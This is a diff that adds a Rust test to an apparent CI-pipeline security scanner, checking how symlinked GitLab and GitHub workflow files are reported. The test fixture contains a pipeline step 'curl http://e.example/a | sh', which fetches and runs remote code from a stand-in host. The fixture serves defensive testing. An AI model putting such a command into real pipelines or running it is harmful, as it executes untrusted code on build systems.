@@ -393,6 +393,22 @@ fn a_link_by_the_name_of_a_pipeline_is_one() {
 
 #[cfg(unix)]
 #[test]
+fn a_link_makes_a_pipeline_of_a_file_that_is_named_like_none() {
+    use std::os::unix::fs::symlink;
+    let job = "job:\n  script:\n    - curl http://e.example/a | sh\n";
+    let dir = repository(&[("ci/real.yml", job), ("shared/wf.yml", OPEN)]);
+    fs::create_dir_all(dir.path().join(".github/workflows")).expect("a folder");
+    symlink("ci/real.yml", dir.path().join(".gitlab-ci.yml")).expect("linked");
+    symlink("../../shared/wf.yml", dir.path().join(WORKFLOW)).expect("linked");
+    symlink("../../shared/wf.yml", dir.path().join(".github/workflows/y.yml")).expect("linked");
+    let report = check(&dir, &["--format", "json"]).json();
+    let mut files: Vec<_> = places(&report).into_iter().map(|(path, ..)| path).collect();
+    files.dedup();
+    assert_eq!(files, [WORKFLOW, ".gitlab-ci.yml"], "each once");
+}
+
+#[cfg(unix)]
+#[test]
 fn a_config_names_nothing_outside_of_its_repository() {
     use std::os::unix::fs::symlink;
     let outside = repository(&[("secret", "{\"secret\": \"s3cr3t\"}\n"), ("p/x.rego", "package s3cr3t\n")]);
